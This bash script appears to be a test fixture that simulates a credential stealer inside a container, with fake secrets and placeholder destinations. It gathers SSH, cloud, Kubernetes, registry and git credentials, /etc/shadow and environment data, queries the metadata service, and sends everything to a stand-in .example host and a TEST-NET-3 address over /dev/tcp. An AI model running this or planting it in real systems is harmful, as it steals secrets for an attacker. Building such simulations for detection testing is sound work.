#!/bin/bash
# collect: imitates a credential stealer: reads the files where secrets live, asks the cloud's metadata service, and sends all of it out.
# Harmless: the secrets are made up when the image is built (prepare); .example and TEST-NET-3 lead nowhere.
loot=/tmp/.loot
for file in /root/.ssh/id_rsa /root/.aws/credentials /root/.docker/config.json /root/.kube/config /root/.npmrc /root/.git-credentials \
  /root/.config/gcloud/application_default_credentials.json /var/run/secrets/kubernetes.io/serviceaccount/token /etc/shadow \
  /root/.bash_history /app/.env /proc/1/environ; do
  [[ -r $file ]] && { printf '== %s\n' "$file"; cat "$file"; }
done >"$loot"
wget -q -T 3 -t 1 -O - http://169.254.169.254/latest/meta-data/iam/security-credentials/ >>"$loot"

wget -q -T 5 -t 1 -O /dev/null --post-file="$loot" http://collect.metrics-cdn.example/upload
{ exec 3<>/dev/tcp/203.0.113.90/8443 && cat "$loot" >&3; } 2>/dev/null
rm -f "$loot"
exec sleep infinity
